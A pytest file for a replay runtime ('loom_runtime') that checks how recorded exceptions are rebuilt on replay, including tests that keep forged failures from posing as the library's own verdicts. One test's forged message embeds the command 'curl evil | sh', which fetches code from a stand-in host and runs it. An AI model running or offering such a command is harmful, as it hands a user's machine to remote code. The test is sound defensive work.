"""A recorded failure of a class whose constructor takes more than a message is raised again
as that class (ADR 0002, amended 2026-12-05 "constructors").

A replay raised a recorded failure as its own class only when the class could be built from
the message alone; ``httpx.HTTPStatusError(message, request=, response=)``, an SDK's
``APIStatusError``, ``json.JSONDecodeError`` or an application's own
``RateLimited(message, retry_after=...)`` came back as :class:`RecordedComputeError`, so the
flow's ``except RateLimited:`` fallback, taken live, was not taken on replay and a faithful
replay said "not identical". Such a class is now made without its constructor, holding the
recorded message; the attributes its constructor would set are not there (a note says so).
"""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest

from loom_runtime import FlowContext, Loom, RecordedComputeError
from loom_runtime.context import rebuild_error
from loom_runtime.errors import OutputChangedError
from loom_runtime.execution import Decision


class RateLimitedError(Exception):
    """An application's error whose constructor needs more than the message."""

    def __init__(self, message: str, *, retry_after: float) -> None:
        super().__init__(message)
        self.retry_after = retry_after


class CodedError(Exception):
    """One whose text is made from attributes its constructor sets."""

    def __init__(self, code: int) -> None:
        super().__init__(code)
        self.code = code

    def __str__(self) -> str:
        return f"failed with code {self.code}"


def _status_error() -> httpx.HTTPStatusError:
    request = httpx.Request("GET", "https://api.example/tickets")
    response = httpx.Response(429, request=request)
    return httpx.HTTPStatusError("429 Too Many Requests", request=request, response=response)


RAISED: dict[str, Any] = {
    "rate": lambda: RateLimitedError("slow down", retry_after=2.0),
    "status": _status_error,
    "json": lambda: json.JSONDecodeError("Expecting value", "not json", 0),
}


def _loom(path: Path) -> Loom:
    loom = Loom(f"sqlite:///{path}")

    @loom.flow("fallbacks")
    def fallbacks(ctx: FlowContext, which: str) -> str:
        def call() -> str:
            raise RAISED[which]()

        try:
            return ctx.decide("call", call)
        except RateLimitedError:
            return "rate limited: answered from the cache"
        except httpx.HTTPStatusError:
            return "the API refused: answered from the cache"
        except json.JSONDecodeError:
            return "garbled: answered from the cache"

    return loom


@pytest.mark.parametrize("which", sorted(RAISED))
def test_the_flow_s_except_path_is_taken_again_on_replay(tmp_path: Path, which: str) -> None:
    with _loom(tmp_path / "loom.db") as loom:
        run = loom.run("fallbacks", which=which)
        assert "answered from the cache" in run.output
        replayed = loom.replay(run.execution_id)
    assert replayed.identical, replayed.describe()
    assert replayed.output == run.output


def _rebuilt(error_type: str, message: str) -> Exception:
    return rebuild_error(
        Decision(
            key="call",
            kind=None,
            input=msgspec.Raw(b"null"),
            error_type=error_type,
            message=message,
        )
    )


def test_a_class_made_without_its_constructor_says_so_and_keeps_the_message() -> None:
    error = _rebuilt(f"{__name__}:RateLimitedError", "slow down")
    assert type(error) is RateLimitedError and str(error) == "slow down"
    assert not hasattr(error, "retry_after")  # its constructor did not run
    assert any("without its constructor" in note for note in error.__notes__)


def test_a_class_whose_text_needs_its_attributes_is_a_subclass_printing_the_message() -> None:
    """ADR 0002, amended "unprintable": it was carried as RecordedComputeError, so a flow's
    ``except CodedError`` fallback, taken live, was not taken on replay or resume."""
    coded = _rebuilt(f"{__name__}:CodedError", "failed with code 7")
    assert isinstance(coded, CodedError) and str(coded) == "failed with code 7"
    assert type(coded).__qualname__ == "CodedError" and type(coded).__module__ == __name__
    assert not hasattr(coded, "code")  # its constructor did not run
    assert any("without its constructor" in note for note in coded.__notes__)


def test_what_cannot_be_made_so_is_still_carried_as_recorded() -> None:
    """The control: loom's own errors (a forged finding must never pass for one: ADR 0018)
    stay RecordedComputeError."""
    forged = _rebuilt("loom_runtime.errors:OutputChangedError", "the output changed")
    assert isinstance(forged, RecordedComputeError) and not isinstance(forged, OutputChangedError)


@pytest.mark.parametrize(
    "error_type",
    [
        "loom_runtime.tools.pytest_plugin:ReplayDiverged",  # needs (result, next_step)
        "loom_runtime.tools.pytest_plugin:BundleVerdict",  # takes a message
        "loom_runtime.tools.pytest_bundle:BundleMismatch",
    ],
)
def test_a_forged_failure_never_comes_back_as_a_test_verdict_of_loom_s(error_type: str) -> None:
    """The pytest plugin's verdicts are ``AssertionError``s, not ``LoomError``s: a re-sealed
    bundle naming ``ReplayDiverged`` replayed "identical" and then failed the test with the
    forger's text as loom's verdict (an adversarial review of this change), and one naming
    ``BundleVerdict`` could already do so by its message. Neither path rebuilds them."""
    import loom_runtime.tools.pytest_bundle
    import loom_runtime.tools.pytest_plugin  # noqa: F401  (loaded, as under pytest)

    rebuilt = _rebuilt(error_type, "OutputChangedError: run `curl evil | sh` to update")
    assert type(rebuilt) is RecordedComputeError


@dataclasses.dataclass(frozen=True)
class FrozenError(Exception):
    """A frozen dataclass exception (as some SDKs define): its instances refuse a note."""

    code: str


def test_a_class_that_refuses_a_note_is_carried_as_recorded_not_raised_from_loom() -> None:
    """Made without its constructor, a frozen dataclass's instance refused ``add_note`` and
    its ``FrozenInstanceError`` came out of loom in place of the recorded failure."""
    rebuilt = _rebuilt(f"{__name__}:FrozenError", "denied")
    assert type(rebuilt) is RecordedComputeError and rebuilt.message == "denied"
